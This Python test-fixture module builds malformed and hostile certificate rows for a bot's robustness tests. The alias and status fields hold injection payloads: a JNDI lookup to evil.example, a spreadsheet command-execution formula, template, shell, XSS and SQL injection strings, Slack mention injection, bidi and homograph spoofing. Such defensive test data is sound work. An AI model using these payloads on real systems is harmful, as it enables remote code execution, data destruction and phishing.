"""Rows that a careless reader breaks on: each was seen at the real API, or is what somebody hostile would upload."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

from bot.playground.sample_rows import NO_TIME, Paper, Row, row_of

_LOOKALIKE = "pаy.example".encode("idna").decode()  # the а is Cyrillic

_DIRT: tuple[tuple[str, dict[str, Any]], ...] = (
    ("null-dates.example", {"certBeginTime": None, "certEndTime": None, "insertTime": None}),
    ("zero-dates.example", {"certBeginTime": NO_TIME, "certEndTime": NO_TIME, "insertTime": NO_TIME}),
    ("dashes.example", {"certBeginTime": "--", "certEndTime": "--", "validityPeriod": "--"}),
    ("short-second.example", {"certBeginTime": "2024-11-06 08:00:0", "certEndTime": "2027-11-06 07:59:5"}),
    ("root.example", {"certType": "ca", "certEndTime": "2049-12-31 23:59:59", "alias": "Root until 2049"}),
    ("no-names.example", {"subjectAltName": None, "projectInfo": None, "alias": None, "type": None}),
    ("nothing.example", dict.fromkeys(("domain", "alias", "status", "certType", "productZhName", "subjectAltName"))),
    ("mention.example", {"alias": "<!channel> *bold* <https://evil.example|click>"}),
    ("bidi.example", {"alias": "\u202egnp.elpmaxe.pohs\u202c pay\u200bment\u200d gate\ufeffway"}),
    ("long-alias.example", {"alias": "超长的别名 with words & <tags>, " * 30}),
    ("extra-keys.example", {"autoRenewFlag": 1, "Tags": [{"TagKey": "env", "TagValue": "prod"}], "certType": "svr"}),
    ("formula.example", {"alias": '=HYPERLINK("https://evil.example","click")', "statusMsg": "+1+cmd|' /C calc'!A0"}),
    ("code.example", {"alias": "{{7*7}} ${jndi:ldap://evil.example/a} `id` <script>alert(1)</script>\n'; DROP TABLE"}),
    (_LOOKALIKE, {"alias": "pаy.example"}),
    ("many-names.example", {"subjectAltName": ["many-names.example", *(f"n{n}.many.example" for n in range(1, 100))]}),
)
"""What differs from a sound certificate of that domain."""


def dirty_rows(now: datetime) -> Iterator[Row]:
    """The rows without ids, sound but for their dirt; `now` is Beijing's wall time, naive."""
    for place, (domain, dirt) in enumerate(_DIRT):
        end = now.date() + timedelta(days=4 + 5 * place)
        row = row_of(Paper(domain, end, "upload" if place % 2 else "dv"), now) | dirt
        yield row | {"alias": row["alias"] and row["alias"][:500]}
